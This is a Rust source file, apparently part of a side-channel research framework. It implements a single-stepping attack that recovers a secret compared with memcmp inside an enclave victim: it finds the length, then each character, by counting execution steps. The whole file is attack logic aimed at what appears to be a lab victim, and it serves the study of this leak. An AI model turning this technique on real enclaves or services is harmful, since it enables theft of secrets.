//! Recovers a memcmp secret: first its length (a matching length runs the
//! compare loop), then each character (a match runs one more iteration).

use crate::attack::pss::PssRunner;
use crate::enclave::PreparedVictim;
use crate::error::{Error, Result};
use crate::victims::{MemcmpVictim, MEMCMP_MAX_LEN};
use serde::{Deserialize, Serialize};

#[derive(Clone, Debug, PartialEq, Serialize, Deserialize)]
pub struct CandidateScore {
    pub phase: String,
    pub input: String,
    pub mean_steps: f64,
    pub samples: usize,
    pub interrupts: u64,
}

#[derive(Clone, Debug, PartialEq, Serialize, Deserialize)]
pub struct MemcmpResult {
    pub recovered: String,
    pub length: usize,
    pub interrupts_total: u64,
    pub ambiguous_phases: Vec<String>,
    pub scores: Vec<CandidateScore>,
}

pub const CHARSET: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZ";

struct Sampler<'r, 'a> {
    runner: &'r mut PssRunner<'a>,
    victim: &'r MemcmpVictim,
    seed: u64,
    next_trace: u64,
    interrupts: u64,
}

impl Sampler<'_, '_> {
    /// `k` traces per input, round-robin so plan adaptation hits every input alike.
    fn sample(&mut self, inputs: &[&str], k: usize) -> Result<Vec<(u64, usize, u64)>> {
        let victims = inputs
            .iter()
            .map(|inp| {
                let program = MemcmpVictim::program(inp.len());
                PreparedVictim::new(&program, &self.victim.binding(inp)?, &self.runner.env.machine.params)
            })
            .collect::<Result<Vec<_>>>()?;
        let mut acc = vec![(0u64, 0usize, 0u64); inputs.len()];
        for _ in 0..k {
            for (pv, a) in victims.iter().zip(acc.iter_mut()) {
                let rec = self.runner.trace(pv, self.next_trace, self.seed)?;
                self.next_trace += 1;
                a.2 += rec.interrupts;
                if !rec.aborted {
                    a.0 += rec.step_count;
                    a.1 += 1;
                }
            }
        }
        self.interrupts += acc.iter().map(|a| a.2).sum::<u64>();
        Ok(acc)
    }

    /// Argmax of mean Step counts; a tie for first place is re-sampled once.
    fn pick(
        &mut self,
        phase: &str,
        inputs: &[String],
        k: usize,
        scores: &mut Vec<CandidateScore>,
        ambiguous: &mut Vec<String>,
    ) -> Result<usize> {
        let refs: Vec<&str> = inputs.iter().map(String::as_str).collect();
        let mut acc = self.sample(&refs, k)?;
        let mean = |a: &(u64, usize, u64)| if a.1 == 0 { f64::NEG_INFINITY } else { a.0 as f64 / a.1 as f64 };
        let leaders = |acc: &[(u64, usize, u64)]| {
            let best = acc.iter().map(mean).fold(f64::NEG_INFINITY, f64::max);
            (0..acc.len()).filter(|&i| mean(&acc[i]) == best).collect::<Vec<_>>()
        };
        let mut lead = leaders(&acc);
        if lead.len() > 1 {
            let tied: Vec<&str> = lead.iter().map(|&i| refs[i]).collect();
            for (&i, (s, n, q)) in lead.iter().zip(self.sample(&tied, k)?) {
                acc[i].0 += s;
                acc[i].1 += n;
                acc[i].2 += q;
            }
            let m = lead.iter().map(|&i| mean(&acc[i])).fold(f64::NEG_INFINITY, f64::max);
            lead.retain(|&i| mean(&acc[i]) == m);
            if lead.len() > 1 {
                ambiguous.push(phase.to_string());
            }
        }
        if acc.iter().all(|a| a.1 == 0) {
            return Err(Error::Inconclusive(format!("all traces aborted in phase {phase}")));
        }
        for (inp, a) in inputs.iter().zip(&acc) {
            scores.push(CandidateScore {
                phase: phase.to_string(),
                input: inp.clone(),
                mean_steps: mean(a),
                samples: a.1,
                interrupts: a.2,
            });
        }
        Ok(lead[0])
    }
}

pub fn memcmp_attack(runner: &mut PssRunner<'_>, victim: &MemcmpVictim, k: usize, seed: u64) -> Result<MemcmpResult> {
    memcmp_attack_with(runner, victim, k, seed, CHARSET)
}

pub fn memcmp_attack_with(
    runner: &mut PssRunner<'_>,
    victim: &MemcmpVictim,
    k: usize,
    seed: u64,
    charset: &[u8],
) -> Result<MemcmpResult> {
    if charset.is_empty() || k == 0 {
        return Err(Error::Usage("memcmp attack needs a charset and k >= 1".into()));
    }
    let mut s = Sampler {
        runner,
        victim,
        seed,
        next_trace: 0,
        interrupts: 0,
    };
    let mut scores = Vec::new();
    let mut ambiguous = Vec::new();
    let pad = charset[0] as char;
    let length_inputs: Vec<String> = (1..=MEMCMP_MAX_LEN).map(|l| pad.to_string().repeat(l)).collect();
    let length = 1 + s.pick("length", &length_inputs, k, &mut scores, &mut ambiguous)?;
    let mut known = String::new();
    for pos in 0..length {
        let inputs: Vec<String> = charset
            .iter()
            .map(|&c| {
                let mut x = known.clone();
                x.push(c as char);
                x.extend(std::iter::repeat(pad).take(length - pos - 1));
                x
            })
            .collect();
        let best = s.pick(&format!("char_{pos}"), &inputs, k, &mut scores, &mut ambiguous)?;
        known.push(charset[best] as char);
    }
    Ok(MemcmpResult {
        recovered: known,
        length,
        interrupts_total: s.interrupts,
        ambiguous_phases: ambiguous,
        scores,
    })
}
